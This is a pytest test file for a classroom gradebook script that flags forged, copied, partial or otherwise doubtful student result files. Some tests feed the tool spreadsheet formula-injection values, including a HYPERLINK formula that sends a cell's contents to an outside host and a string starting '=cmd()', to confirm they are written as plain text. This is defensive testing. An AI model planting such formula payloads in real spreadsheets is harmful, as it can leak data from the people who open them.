"""
The teacher's gradebook (exercises/gradebook.py): one table of a class's result files, in which every file has its
row and every file that cannot be trusted as it stands (unreadable, not a result file, not verified, no student, a
student named twice, a copy of another file's run, a partial hand-in, an untouched starter that "passed", the
reference solution handed in verbatim, checks other than the teacher's, a grading stopped by the student's code) is
flagged.
"""

import csv
import hashlib
import itertools
import json
import os
import subprocess
import sys
import time

import pytest

REPO = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))  # the repository, above tests/
EXERCISES = os.path.join(REPO, "exercises")
sys.path.insert(0, EXERCISES)
import check  # noqa: E402  (exercises/check.py)
import gradebook  # noqa: E402  (exercises/gradebook.py)

DIRS = check.exercise_dirs()[:3]
RUNS = itertools.count()  # each file a run of its own, a second after the last: files of one run are flagged


def result(student, statuses=("ok", "wrong", "not filled"), key=None, path=None, date=None, seed=None):
    """A result file as `check.py all --student=student` writes it, for the first three exercises (fewer statuses:
    as `check.py 01 --student=...` writes it, for the first ones)."""
    entries = [check.grade_entry(d, (8 if s == "ok" else 1, 8, s, None if s == "ok" else "trap"), 2.0)
               for d, s in zip(DIRS, statuses)]
    date = date or time.strftime("%Y-%m-%dT%H:%M:%S+0000", time.gmtime(1767254400 + next(RUNS)))
    graded = check.grade_result(entries, date=date, student=student)
    check.write_result(str(path), graded if seed is None else dict(graded, seed=seed), key)
    return path


def gradebook_cli(*args, env=None, path=None):
    """python exercises/gradebook.py ARGS, with PYTHONPATH=path (unset when None): (exit status, stdout, stderr)."""
    env = {k: v for k, v in (env or os.environ).items() if k != "PYTHONPATH"}
    if path:
        env["PYTHONPATH"] = str(path)
    out = subprocess.run([sys.executable, "exercises/gradebook.py", *args], cwd=REPO, env=env, capture_output=True,
                         text=True, timeout=120)
    return out.returncode, out.stdout, out.stderr


def count(row, column):
    """A count as the table holds it ("p/t"), from the CSV's two columns of plain numbers (gradebook.counted_as)."""
    passed, total = gradebook.counted_as(column)
    return f"{row[passed]}/{row[total]}"


def read_csv(path):
    with open(path, encoding="utf-8", newline="") as f:
        return {row["file"]: row for row in csv.DictReader(f)}


def test_every_file_has_a_row_and_every_doubtful_one_is_flagged(tmp_path):
    folder = tmp_path / "class"
    folder.mkdir()
    result("Ann", ("ok", "ok", "ok"), path=folder / "ann.json")
    result("Bo", path=folder / "bo.json", date="2026-01-02T03:04:05+0000")
    result("bo ", ("ok", "ok", "not filled"), path=folder / "bo-again.json")  # the same student, spelled otherwise
    result(None, path=folder / "nobody.json")
    forged = json.loads(result("Cy", path=folder / "cy.json").read_text(encoding="utf-8"))
    forged["exercises"][1]["status"] = "passed"  # changed by hand after the checker wrote it
    (folder / "cy.json").write_text(json.dumps(forged), encoding="utf-8")
    (folder / "broken.json").write_text("{\"student\": ", encoding="utf-8")
    old = json.loads(result(None, path=folder / "old.json").read_text(encoding="utf-8"))
    old.pop("student")  # as the checker wrote files before there was a student field, and "seconds" for its time
    for e in old["exercises"]:
        e["seconds"] = e.pop("checker_seconds")
    old["seal"] = check.seal(old)
    (folder / "old.json").write_text(json.dumps(old), encoding="utf-8")
    (folder / "notes.txt").write_text("not a result file", encoding="utf-8")
    (folder / "empty.json").write_text("{}", encoding="utf-8")  # JSON, read, but no result file
    copied = json.loads(result("Dee", path=folder / "dee.json", date="2026-01-02T09:00:00+0000").read_text("utf-8"))
    copied["student"] = "Ed"  # Dee's file under Ed's name, resealed: it verifies, and only its run gives it away
    copied["seal"] = check.seal(copied)
    (folder / "ed.json").write_text(json.dumps(copied), encoding="utf-8")
    result("Eve", path=folder / "eve.json", date="2026-01-02T09:00:00+0000", seed=check.RUN_SEED + 1)  # Dee's second
    result("Fay", ("ok",), path=folder / "fay.json")  # `check.py 01 --student=Fay`: one exercise of three
    assert check.verify_result(str(folder / "old.json")) == []  # an older file still verifies

    lines = []
    flagged = gradebook.gradebook(str(folder), str(tmp_path / "out" / "book"), out=lines.append)
    rows = read_csv(tmp_path / "out" / "book.csv")
    assert sorted(rows) == ["ann.json", "bo-again.json", "bo.json", "broken.json", "cy.json", "dee.json", "ed.json",
                            "empty.json", "eve.json", "fay.json", "nobody.json", "old.json"], rows
    assert rows["ann.json"]["verified"] == "yes" and rows["ann.json"]["flags"] == "", rows["ann.json"]
    assert count(rows["ann.json"], "exercises passed") == "3/3" and count(rows["bo.json"], "exercises passed") == "1/3"
    first, second, third = (os.path.basename(d)[:2] for d in DIRS)
    assert rows["bo.json"][f"{first} status"] == "passed" and rows["bo.json"][f"{second} status"] == "failed"
    assert rows["bo.json"][f"{first} hints_seen"].isdigit() and rows["bo.json"]["seed"] == str(check.RUN_SEED)
    assert rows["bo.json"]["date"] == "2026-01-02T03:04:05+0000"
    assert rows["bo.json"]["flags"] == "same student as bo-again.json", rows["bo.json"]
    assert rows["bo-again.json"]["flags"] == "same student as bo.json", rows["bo-again.json"]
    assert rows["cy.json"]["verified"] == "no" and "changed after the checker wrote it" in rows["cy.json"]["why not"]
    assert rows["cy.json"]["flags"] == "not verified"
    assert rows["broken.json"]["verified"] == "no" and rows["broken.json"]["flags"] == "cannot be read"
    assert rows["broken.json"][f"{first} status"] == "-" and rows["broken.json"]["exercises passed"] == ""
    assert rows["empty.json"]["verified"] == "no" and rows["empty.json"]["flags"] == "not a result file"
    assert rows["dee.json"]["flags"] == "same checker run as ed.json", rows["dee.json"]
    assert rows["ed.json"]["flags"] == "same checker run as dee.json" and rows["ed.json"]["verified"] == "yes"
    assert rows["eve.json"]["flags"] == "", rows["eve.json"]  # the same second, another run: another seed
    assert rows["fay.json"]["flags"] == f"graded 1 of 3 exercises (missing: {second}, {third})", rows["fay.json"]
    assert count(rows["fay.json"], "exercises passed") == "1/3" and rows["fay.json"][f"{second} status"] == "-"
    assert rows["nobody.json"]["flags"] == "no student" and rows["nobody.json"]["verified"] == "yes"
    assert rows["old.json"]["flags"] == "no student" and rows["old.json"]["verified"] == "yes"
    assert str(tmp_path) not in rows["cy.json"]["why not"]  # the file's name, not where the teacher keeps it
    assert flagged == 10 and lines[0].startswith("12 files, 10 flagged"), lines
    assert f"\n  cy.json: not verified\n    why not: {rows['cy.json']['why not']}\n" in lines[0], lines[0]
    assert "\n  ann.json" not in lines[0] and "\n  broken.json: cannot be read\n    why not: " in lines[0]
    assert "starter files not checked" in "\n".join(lines)
    markdown = (tmp_path / "out" / "book.md").read_text(encoding="utf-8")
    assert markdown.startswith(f"# Gradebook: {folder}\n"), markdown[:200]  # which folder's files it read
    table = [line for line in markdown.splitlines() if line.startswith("| ")]
    assert len(table) == 2 + len(rows) and all(f"| {name} |" in markdown for name in rows), markdown
    assert len({line.count(" | ") for line in table}) == 1, "every row of the Markdown table has the header's cells"
    # one column per exercise (status, checks and hints in one cell), not three: the CSV keeps them apart
    assert table[0] == "| " + " | ".join(list(gradebook.LEAD) + [first, second, third, "date", "flags"]) + " |"
    bo = next(line for line in table if line.startswith("| Bo | bo.json |")).split(" | ")
    hints = rows["bo.json"][f"{first} hints_seen"]
    checks = count(rows["bo.json"], f"{first} checks")
    assert bo[6] == f"passed {checks}" + (f", {hints} hint" if hints != "0" else "") + \
        ("s" if hints not in ("0", "1") else "")
    assert bo[7].startswith("failed ") and "| -" in next(line for line in table if "| fay.json |" in line)
    assert "starter.py files were not checked" in markdown
    # in the CSV every count is two columns of plain numbers (a spreadsheet reads "8/8" or "1/11" as a date)
    with open(tmp_path / "out" / "book.csv", encoding="utf-8", newline="") as f:
        header = next(csv.reader(f))
    assert header[4:8] == ["exercises passed", "exercises", "checks passed", "checks"], header
    assert header[8:12] == [f"{first} status", f"{first} checks passed", f"{first} checks", f"{first} hints_seen"]
    counts = [c for c in header if c.endswith(("passed", "checks", "exercises"))]
    assert all(row[c] in ("", "-") or row[c].isdigit() for row in rows.values() for c in counts), rows
    assert sorted(os.listdir(tmp_path / "out")) == ["book.csv", "book.md"]  # no temporary file left


def test_hostile_or_odd_files_are_rows_not_tracebacks(tmp_path):
    """A JSON nested deeper than Python parses is 'cannot be read'; an exercise graded twice (a backup folder beside
    it, from an older checker) is flagged; a student name a spreadsheet would run as a formula is written as text."""
    folder = tmp_path / "class"
    folder.mkdir()
    (folder / "deep.json").write_text("[" * 200_000, encoding="utf-8")
    twice = json.loads(result("Gus", path=folder / "gus.json").read_text(encoding="utf-8"))
    twice["exercises"].append(dict(twice["exercises"][0], status="failed"))
    twice["seal"] = check.seal(twice)
    (folder / "gus.json").write_text(json.dumps(twice), encoding="utf-8")
    result('=HYPERLINK("http://example.org/?"&A1,"grades")', path=folder / "hal.json")
    assert check.read_sealed(str(folder / "deep.json"))[1][0].startswith(f"{folder / 'deep.json'} cannot be read")
    gradebook.gradebook(str(folder), str(tmp_path / "book"), out=lambda line: None)
    rows = read_csv(tmp_path / "book.csv")
    assert rows["deep.json"]["flags"] == "cannot be read"
    assert rows["gus.json"]["flags"] == f"exercise {os.path.basename(DIRS[0])[:2]} graded twice", rows["gus.json"]
    assert rows["hal.json"]["student"] == "'" + '=HYPERLINK("http://example.org/?"&A1,"grades")'
    assert rows["hal.json"][f"{os.path.basename(DIRS[2])[:2]} status"] == "not filled"  # plain cells as they were
    (tmp_path / "other").mkdir()
    odd = json.loads(result("Ivy", path=tmp_path / "other" / "ivy.json").read_text(encoding="utf-8"))
    odd["exercises"][2]["id"] = "=1+1"  # an exercise id of the file's own: it names columns of the header
    odd["seal"] = check.seal(odd)
    (tmp_path / "other" / "ivy.json").write_text(json.dumps(odd), encoding="utf-8")
    gradebook.gradebook(str(tmp_path / "other"), str(tmp_path / "odd"), out=lambda line: None)
    header = read_csv(tmp_path / "odd.csv")["ivy.json"]
    assert "'=1+1 status" in header and "=1+1 status" not in header


def test_the_command_verifies_with_the_signing_key_and_says_where_it_wrote(tmp_path):
    result("Ann", key="the teacher's key", path=tmp_path / "ann.json")
    env = {k: v for k, v in os.environ.items() if k != check.SIGNING_KEY_VAR}
    code, out, err = gradebook_cli(str(tmp_path), env=env)  # signed, but no key to verify it with
    assert code == 1 and "1 files, 1 flagged" in out and not err, out + err
    assert "set CHECK_SIGNING_KEY" in read_csv(tmp_path / "gradebook.csv")["ann.json"]["why not"]
    # it reads JSON, and loads no torch (a second or two): a stand-in torch that cannot be imported changes nothing
    (tmp_path / "stand-in" / "torch").mkdir(parents=True)
    (tmp_path / "stand-in" / "torch" / "__init__.py").write_text("raise ImportError('the gradebook loaded torch')\n")
    code, out, err = gradebook_cli(str(tmp_path), f"--out={tmp_path / 'book'}", path=tmp_path / "stand-in",
                                   env=dict(env, **{check.SIGNING_KEY_VAR: "the teacher's key"}))
    assert code == 0 and "1 files, 0 flagged" in out and not err, out + err
    assert f"{tmp_path / 'book'}.csv" in out and f"{tmp_path / 'book'}.md" in out, out
    assert read_csv(tmp_path / "book.csv")["ann.json"]["verified"] == "yes"
    (tmp_path / "grades").mkdir()
    code, out, err = gradebook_cli(str(tmp_path), f"--out={tmp_path / 'grades'}")  # a folder: the files go in it
    assert sorted(os.listdir(tmp_path / "grades")) == ["gradebook.csv", "gradebook.md"], out + err
    code, out, err = gradebook_cli(str(tmp_path), f"--out={tmp_path / 'new' / 'week3'}/")  # a folder not there yet
    assert sorted(os.listdir(tmp_path / "new" / "week3")) == ["gradebook.csv", "gradebook.md"], out + err


def test_bad_input_gets_one_line(tmp_path):
    (tmp_path / "empty").mkdir()
    for args, says in [([str(tmp_path / "nowhere")], "no folder"), ([str(tmp_path / "empty")], "no *.json"),
                       ([str(tmp_path), "--colour"], "unexpected argument"), ([str(tmp_path), "--out="], "--out="),
                       ([], "")]:
        code, out, err = gradebook_cli(*args)
        assert code == 2 and "Traceback" not in out + err, (args, out, err)
        if args:
            assert not out and err.startswith("error: ") and says in err and err.count("\n") == 1, (args, err)
    assert os.listdir(tmp_path) == ["empty"] and not os.listdir(tmp_path / "empty")  # nothing written


def test_an_out_that_cannot_be_written_is_one_line_before_any_grading(tmp_path):
    """--out through a file, or onto a folder, is refused before grading (it was a traceback from atomic_write, the
    .csv written and the .md not); a write that fails anyway is one line too."""
    result("Ann", path=tmp_path / "ann.json")
    (tmp_path / "a_file").write_text("")
    (tmp_path / "out" / "book.md").mkdir(parents=True)
    for out, says in [(tmp_path / "a_file" / "book", "a_file is a file, not a folder"),
                      (tmp_path / "out" / "book", "book.md is a folder")]:
        code, stdout, err = gradebook_cli(str(tmp_path), f"--out={out}")
        assert code == 2 and not stdout and err.startswith("error: ") and says in err and err.count("\n") == 1, err
    assert os.listdir(tmp_path / "out") == ["book.md"]  # no book.csv without its book.md
    with pytest.raises(SystemExit, match=r"^error: cannot write .*book\.csv \(.*\): choose another --out=PREFIX$"):
        gradebook.gradebook(str(tmp_path), str(tmp_path / "a_file" / "book"), out=lambda line: None)
    with pytest.raises(SystemExit, match=r"^error: cannot write .*book\.md \(.*\); .*book\.csv was written: "):
        gradebook.gradebook(str(tmp_path), str(tmp_path / "out" / "book"), out=lambda line: None)


def test_an_untouched_starter_that_passed_is_flagged(tmp_path):
    """Each result entry names the SHA-256 of the file it graded. An untouched starter fails every check, so one that
    "passed" had its checks or its result edited (checks.py edited in the student's own copy, say): flagged. An
    untouched starter that failed, or a file of the student's own that passed, is not."""
    folder = tmp_path / "class"
    folder.mkdir()
    starter = check.file_digest(os.path.join(DIRS[0], "starter.py"))

    def write(student, status, digest):
        entry = check.grade_entry(DIRS[0], (8, 8, status, None) if status == "ok" else (0, 8, status, "import"), 2.0,
                                  digest)
        date = time.strftime("%Y-%m-%dT%H:%M:%S+0000", time.gmtime(1767254400 + next(RUNS)))
        check.write_result(str(folder / f"{student}.json"), check.grade_result([entry], date=date, student=student))

    write("carol", "ok", starter)        # her checks edited: the untouched starter "passed"
    write("dan", "not filled", starter)  # untouched, and failed: as it should
    write("bea", "ok", "0" * 64)         # her own file
    gradebook.gradebook(str(folder), str(tmp_path / "book"), out=lambda line: None)
    rows = read_csv(tmp_path / "book.csv")
    first = os.path.basename(DIRS[0])[:2]
    assert rows["carol.json"]["flags"] == f"passed with the untouched starter: {first} (checks or result edited)"
    assert rows["dan.json"]["flags"] == "" and rows["bea.json"]["flags"] == "", rows


def test_partial_credit_other_checks_and_a_stopped_grading_are_shown(tmp_path):
    """Checks passed per exercise and over all (partial credit); a file graded by a checks.py or check.py other than
    this checkout's (their SHA-256 in the file: edited in the student's copy) is flagged, one graded by this
    checkout's or recorded before the field existed is not; a grading stopped because the student's code changed
    the checker's files says so, not just 'a partial hand-in'."""
    folder = tmp_path / "class"
    folder.mkdir()
    ours = [check.text_digest(os.path.join(d, "checks.py")) for d in DIRS]
    checker = check.text_digest(os.path.join(EXERCISES, "check.py"))

    def write(student, results, checks=ours, checker_digest=checker):
        entries = [check.grade_entry(d, r, 2.0, checks_digest=c) for d, r, c in zip(DIRS, results, checks)]
        date = time.strftime("%Y-%m-%dT%H:%M:%S+0000", time.gmtime(1767254400 + next(RUNS)))
        check.write_result(str(folder / f"{student}.json"), check.grade_result(entries, date=date, student=student,
                                                                               checker_digest=checker_digest))

    n = [gradebook.checks_defined()[os.path.basename(d)[:2]] for d in DIRS]  # each exercise's number of checks
    three = [(n[0], n[0], "ok", None), (5, n[1], "wrong", "trap"), (4, n[2], "wrong", "scale")]
    write("ann", three)
    write("bo", three, checks=[ours[0], "0" * 64, ours[2]])  # exercise 2's checks.py edited
    write("cy", three, checker_digest="1" * 64)  # check.py edited
    write("dee", three, checks=[None] * 3, checker_digest=None)  # a file from before the digests were recorded
    write("ed", [three[0], (0, n[1], "error", "changed the checker's files")])
    crlf = tmp_path / "checks-crlf.py"  # a Windows checkout's copy (Git turns LF into CRLF): the same checks
    crlf.write_bytes(open(os.path.join(DIRS[0], "checks.py"), "rb").read().replace(b"\n", b"\r\n"))
    write("fay", three, checks=[check.text_digest(str(crlf))] + ours[1:])
    gradebook.gradebook(str(folder), str(tmp_path / "book"), out=lambda line: None)
    rows = read_csv(tmp_path / "book.csv")
    first, second, _ = (os.path.basename(d)[:2] for d in DIRS)
    assert count(rows["ann.json"], "checks passed") == f"{n[0] + 9}/{sum(n)}"
    assert count(rows["ann.json"], f"{second} checks") == f"5/{n[1]}"
    assert rows["ann.json"]["flags"] == "" and rows["dee.json"]["flags"] == "" and rows["fay.json"]["flags"] == ""
    assert rows["bo.json"]["flags"] == f"graded by checks other than this checkout's: {second} (edited, or another " \
        "version of the exercises)"
    assert rows["cy.json"]["flags"].startswith("graded by checks other than this checkout's: check.py (")
    assert f"the student's code changed the checker's files at {second} (grading stopped there)" in \
        rows["ed.json"]["flags"] and count(rows["ed.json"], "checks passed") == f"{n[0]}/{sum(n)}"  # the third: 0
    write("gus", [three[0], (3, n[1], "setup", "runs_exist_and_match"), three[2]])  # graded where the task was missing
    write("hal", [three[0], (3, n[1], "not filled", "runs_exist_and_match"), three[2]])  # and where the runs were
    gradebook.gradebook(str(folder), str(tmp_path / "book"), out=lambda line: None)
    gus, hal = (read_csv(tmp_path / "book.csv")[name] for name in ("gus.json", "hal.json"))
    assert gus[f"{second} status"] == "setup" and gus["flags"] == f"{second} not checked: the grading machine " \
        "lacked the sink lab's task (python data/bigram_backcopy/prepare.py, then grade again)", gus
    assert hal["flags"] == f"{second}: the code's checks passed; the trained runs (out/exercises/) were missing " \
        "where it was graded", hal


def test_a_reader_that_stops_reading_gets_no_traceback(tmp_path):
    """`gradebook.py FOLDER | head -1`: the files are written, and a closed pipe ends the command (exit status 1)
    without a traceback."""
    for student in ("ann", "bo"):
        result(student, path=tmp_path / f"{student}.json")
    run = subprocess.Popen([sys.executable, "exercises/gradebook.py", str(tmp_path)], cwd=REPO,
                           stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    run.stdout.close()  # the reader is gone before the command writes a line
    err = run.stderr.read()
    assert run.wait(timeout=120) == 1 and "Traceback" not in err and "BrokenPipe" not in err, err
    assert sorted(os.listdir(tmp_path)) == ["ann.json", "bo.json", "gradebook.csv", "gradebook.md"]


def test_a_reference_solution_handed_in_verbatim_is_flagged(tmp_path):
    """A file graded on exercises/solutions/'s own file (a leaked answer key: a student copy holds none), byte for
    byte or with CRLF line ends, is flagged with its exercises; one character changed, or a file of one's own, is
    not (the digest catches the plain copy, nothing more)."""
    solution = os.path.join(EXERCISES, "solutions", os.path.basename(DIRS[0]) + ".py")
    if not os.path.isfile(solution):
        pytest.skip("exercises/solutions/ is not here (a student copy)")
    crlf = tmp_path / "crlf.py"
    crlf.write_bytes(open(solution, "rb").read().replace(b"\n", b"\r\n"))
    edited = tmp_path / "edited.py"
    edited.write_bytes(open(solution, "rb").read() + b"# mine\n")
    folder = tmp_path / "class"
    folder.mkdir()
    for student, file in (("Ann", solution), ("Bo", str(crlf)), ("Cy", str(edited))):
        entries = [check.grade_entry(d, (8, 8, "ok", None), 2.0, digest=check.file_digest(file) if i == 0 else None)
                   for i, d in enumerate(DIRS)]
        date = time.strftime("%Y-%m-%dT%H:%M:%S+0000", time.gmtime(1767254400 + next(RUNS)))
        check.write_result(str(folder / f"{student}.json"), check.grade_result(entries, date=date, student=student))
    gradebook.gradebook(str(folder), str(tmp_path / "book"), out=lambda line: None)
    rows = read_csv(tmp_path / "book.csv")
    first = os.path.basename(DIRS[0])[:2]
    assert rows["Ann.json"]["flags"] == rows["Bo.json"]["flags"] == \
        f"graded on the reference solution, verbatim: {first}", rows
    assert rows["Cy.json"]["flags"] == "", rows["Cy.json"]


def test_where_and_why_each_exercise_stopped_are_shown(tmp_path):
    """The check each exercise stopped at and its reason (the line the student saw) are in the CSV, the check in the
    Markdown's cell and the reason in its list below the table: a syntax error and a sys.exit() on import both stop
    at "import", and only the reason tells them apart. The reason is the student's text, so the Markdown shows it as
    text (no emphasis, tag or link) and the CSV never as a formula; a file without reasons (older) has empty cells."""
    folder = tmp_path / "class"
    folder.mkdir()
    syntax = "your file does not import: SyntaxError: invalid syntax (starter.py, line 3)"
    exits = "your file ended the program while it was imported (sys.exit(3), starter.py line 2): leave that to " \
        "the checker."
    hostile = "=cmd() o = o * g, __init__ <b>bold</b> [link](http://x) `code`"
    classes = {"ann": [((0, 8, "error", None), syntax), ((3, 8, "wrong", "trap"), "at T=40: off by 2"),
                       ((8, 8, "ok", None), None)],
               "bo": [((0, 8, "error", None), exits), ((1, 8, "wrong", "numbers"), hostile),
                      ((0, 8, "not filled", "shapes"), "not filled yet: 03-gap1")],
               "cy": [((0, 8, "error", None), None)]}  # written before the checker recorded reasons
    for student, graded in classes.items():
        entries = [check.grade_entry(d, r, 2.0, reason=why) for d, (r, why) in zip(DIRS, graded)]
        date = time.strftime("%Y-%m-%dT%H:%M:%S+0000", time.gmtime(1767254400 + next(RUNS)))
        check.write_result(str(folder / f"{student}.json"), check.grade_result(entries, date=date, student=student))
    gradebook.gradebook(str(folder), str(tmp_path / "book"), out=lambda line: None)
    rows = read_csv(tmp_path / "book.csv")
    first, second, third = (os.path.basename(d)[:2] for d in DIRS)
    ann, bo, cy = rows["ann.json"], rows["bo.json"], rows["cy.json"]
    assert ann[f"{first} first failing check"] == bo[f"{first} first failing check"] == "import", rows
    assert (ann[f"{first} reason"], bo[f"{first} reason"]) == (syntax, exits), rows
    assert (ann[f"{second} first failing check"], ann[f"{second} reason"]) == ("trap", "at T=40: off by 2"), ann
    assert ann[f"{third} first failing check"] == ann[f"{third} reason"] == "" and ann[f"{third} status"] == "passed"
    assert bo[f"{second} reason"] == "'" + hostile, bo  # a spreadsheet shows it as text, not as a formula
    assert cy[f"{first} first failing check"] == "import" and cy[f"{first} reason"] == "", cy
    markdown = (tmp_path / "book.md").read_text(encoding="utf-8")
    table = [line.split(" | ") for line in markdown.splitlines() if line.startswith("| ann |")]
    assert table[0][6:9] == ["error 0/8 at import", "failed 3/8 at trap", "passed 8/8"], table
    below = markdown.split("## What stopped each exercise\n", 1)[1].splitlines()
    items = [line for line in below if line.startswith("- ")]
    assert items[:2] == [f"- ann (ann.json), {first}: error at import: {syntax}".replace("_", "\\_"),
                         f"- ann (ann.json), {second}: failed at trap: at T=40: off by 2"], items
    assert items[3] == (f"- bo (bo.json), {second}: failed at numbers: =cmd() o = o \\* g, \\_\\_init\\_\\_ \\<b\\>bold"
                        "\\</b\\> \\[link\\](http://x) \\`code\\`"), items
    assert len(items) == 4, items  # not a "not filled" one, nor one without a reason


def test_a_result_file_named_in_capitals_is_a_row(tmp_path):
    """`check.py all --result=ID.JSON` writes a result file (a Windows habit, or a platform that renames): the gradebook
    reads it, and the --handed_in comparison finds it, rather than leave the student out without a word."""
    folder, handed = tmp_path / "regrades", tmp_path / "handed"
    folder.mkdir(), handed.mkdir()
    result("ann", path=folder / "ann.json"), result("bo", path=folder / "BO.JSON")
    result("ann", path=handed / "ann.json"), result("bo", path=handed / "bo.Json")
    assert gradebook.result_files(str(folder)) == ["BO.JSON", "ann.json"]
    lines = []
    gradebook.gradebook(str(folder), str(tmp_path / "book"), out=lines.append, handed_in=str(handed))
    rows = read_csv(tmp_path / "book.csv")
    assert sorted(rows) == ["BO.JSON", "ann.json"], rows
    assert "no file handed in" not in rows["BO.JSON"]["flags"], rows["BO.JSON"]
    assert not any("no re-grade" in line for line in lines), lines


def test_a_copied_file_and_a_folder_per_student_are_seen(tmp_path):
    """A platform's download: a folder per student, every file named alike (check-result.json, the default): each is a
    row, named by its path in the folder. An exercise graded on the same file as another student's (a copied
    starter.py, graded by the copier) is flagged on both rows, not the untouched starter that many share nor one
    student graded twice; checks passed counts a missing exercise as none of its checks."""
    folder = tmp_path / "download"
    untouched = check.file_digest(os.path.join(DIRS[2], "starter.py"))
    digests = {"ann": ["a" * 64, "b" * 64, untouched], "bo": ["a" * 64, "c" * 64, untouched],
               "cy": ["d" * 64, "b" * 64], "ann again": ["a" * 64]}
    for student, files in digests.items():
        (folder / student).mkdir(parents=True)
        entries = [check.grade_entry(d, (0, 8, "not filled", "shapes") if f == untouched else (8, 8, "ok", None), 2.0,
                                     digest=f) for d, f in zip(DIRS, files)]
        date = time.strftime("%Y-%m-%dT%H:%M:%S+0000", time.gmtime(1767254400 + next(RUNS)))
        graded = check.grade_result(entries, date=date, student=student.split()[0])
        check.write_result(str(folder / student / check.RESULT_FILE), graded)
    (folder / ".hidden").mkdir()
    (folder / ".hidden" / "x.json").write_text("{}", encoding="utf-8")
    for copy in ("ann", "bo"):  # handed in as their whole copies: the project's own .json files are no results
        for project_file in ("exercises/check.py", "data/gpt2_bpe/encoder.json", "results/x/summary.json"):
            (folder / copy / project_file).parent.mkdir(parents=True, exist_ok=True)
            (folder / copy / project_file).write_text("{}", encoding="utf-8")
    assert gradebook.result_files(str(folder)) == sorted(os.path.join(s, check.RESULT_FILE) for s in digests)
    gradebook.gradebook(str(folder), str(tmp_path / "book"), out=lambda line: None)
    rows = read_csv(tmp_path / "book.csv")
    ann, again, bo, cy = (os.path.join(s, check.RESULT_FILE) for s in ("ann", "ann again", "bo", "cy"))
    first, second, third = (os.path.basename(d)[:2] for d in DIRS)
    assert sorted(rows) == sorted([ann, again, bo, cy]), rows
    assert rows[ann]["flags"] == f"same student as {again}; same code as {bo} at {first}; same code as {cy} at " \
        f"{second}", rows[ann]
    assert rows[bo]["flags"] == f"same code as {again} at {first}; same code as {ann} at {first}", rows[bo]
    assert rows[cy]["flags"] == f"same code as {ann} at {second}; graded 2 of 3 exercises (missing: {third})", rows[cy]
    assert count(rows[cy], "checks passed") == "16/24", rows[cy]  # 03's 8 checks counted as 0 of 8
    (tmp_path / "nothing" / "sub").mkdir(parents=True)
    code, out, err = gradebook_cli(str(tmp_path / "nothing"))
    assert code == 2 and "nor do its subfolders" in err, err


def test_the_checks_the_gradebook_counts_are_those_the_checker_runs():
    """gradebook.checks_defined reads each checks.py without running it: the same number of checks check.checks_of
    loads and runs."""
    defined = gradebook.checks_defined()
    assert defined == {os.path.basename(d)[:2]: len(check.checks_of(d)) for d in check.exercise_dirs()}
    assert all(n >= 3 for n in defined.values()), defined


def test_a_number_of_checks_other_than_the_checkers_is_flagged(tmp_path):
    """A result that says an exercise graded by this checkout's checks.py had another number of checks was edited
    (8/8 where the exercise has 10 reads as full marks); 0 is the checker's own failure, and a file graded by other
    checks is flagged as such, not twice."""
    folder = tmp_path / "class"
    folder.mkdir()
    ours = {d: check.text_digest(os.path.join(d, "checks.py")) for d in DIRS}
    defined = gradebook.checks_defined()
    first, second = (os.path.basename(d)[:2] for d in DIRS[:2])

    def write(student, totals, digests=None):
        entries = [check.grade_entry(d, (t, t, "ok", None) if t else (0, 0, "error", None), 2.0,
                                     checks_digest=(digests or ours)[d]) for d, t in zip(DIRS[:2], totals)]
        date = time.strftime("%Y-%m-%dT%H:%M:%S+0000", time.gmtime(1767254400 + next(RUNS)))
        check.write_result(str(folder / f"{student}.json"), check.grade_result(entries, date=date, student=student))

    write("ann", (defined[first], defined[second]))
    write("bo", (defined[first], defined[second] - 2))
    write("cy", (0, defined[second]))
    write("dee", (defined[first] + 1, defined[second]), {d: "0" * 64 for d in DIRS})
    gradebook.gradebook(str(folder), str(tmp_path / "book"), out=lambda line: None)
    flags = {name: row["flags"] for name, row in read_csv(tmp_path / "book.csv").items()}
    assert flags["ann.json"] == flags["cy.json"] == "", flags
    assert flags["bo.json"] == (f"a number of checks other than this checkout's checks.py defines: {second} "
                                f"({defined[second] - 2}, not {defined[second]}) (result edited)")
    assert "number of checks" not in flags["dee.json"] and "graded by checks other than" in flags["dee.json"]


def test_each_regrade_is_compared_with_what_its_student_handed_in(tmp_path):
    """--handed_in=DIR: the files the students handed in beside the teacher's signed re-grades of their collected
    work. A hand-in that says more than the re-grade (forged, or edited), none, two, or one that does not verify is
    flagged on the re-grade's row; a hand-in that agrees is not; one with no re-grade is named."""
    key = "the teacher's key"
    regrades, hand_ins = tmp_path / "regrades", tmp_path / "handed-in"
    regrades.mkdir()
    hand_ins.mkdir()
    first = os.path.basename(DIRS[0])[:2]

    def write(folder, student, status, digest, key=None, name=None):
        entry = check.grade_entry(DIRS[0], (8, 8, status, None) if status == "ok" else (2, 8, status, "trap"), 2.0,
                                  digest)
        date = time.strftime("%Y-%m-%dT%H:%M:%S+0000", time.gmtime(1767254400 + next(RUNS)))
        path = folder / f"{name or student}.json"
        check.write_result(str(path), check.grade_result([entry], date=date, student=student), key)
        return path

    for student, handed, regraded, same in [("alice", "ok", "ok", True), ("mallory", "ok", "wrong", True),
                                            ("carol", "ok", "wrong", False), ("dan", "wrong", "wrong", True)]:
        digest = hashlib.sha256(student.encode()).hexdigest()  # each student's own file
        write(hand_ins, student, handed, digest)
        write(regrades, student, regraded, digest if same else "b" * 64, key)
    edited = json.loads((hand_ins / "dan.json").read_text(encoding="utf-8"))
    edited["exercises"][0]["checker_seconds"] = 99.0
    (hand_ins / "dan.json").write_text(json.dumps(edited), encoding="utf-8")
    write(regrades, "bob", "not filled", "c" * 64, key)  # handed in nothing
    write(regrades, "erin", "ok", "d" * 64, key)
    write(hand_ins, "Erin ", "ok", "d" * 64, name="erin-1")
    write(hand_ins, "erin", "ok", "d" * 64, name="erin-2")
    write(hand_ins, "fay", "ok", "e" * 64)  # not re-graded
    (hand_ins / "junk.json").write_text("{", encoding="utf-8")  # read by no one: said, with why
    lines = []
    flagged = gradebook.gradebook(str(regrades), str(tmp_path / "book"), key=key, out=lines.append,
                                  handed_in=str(hand_ins))
    flags = {name: row["flags"] for name, row in read_csv(tmp_path / "book.csv").items()}
    assert flagged == 5 and flags["alice.json"] == "", flags
    assert flags["mallory.json"] == (f"the hand-in mallory.json says otherwise at {first} (passed 8/8 there, failed "
                                     "2/8 here, the same starter.py)")
    assert flags["carol.json"].endswith("here, another starter.py)"), flags
    assert flags["bob.json"] == "no file handed in"
    assert flags["erin.json"] == "2 files handed in: erin-1.json, erin-2.json"
    assert flags["dan.json"].startswith("the hand-in dan.json is not as the checker wrote it: dan.json was changed "
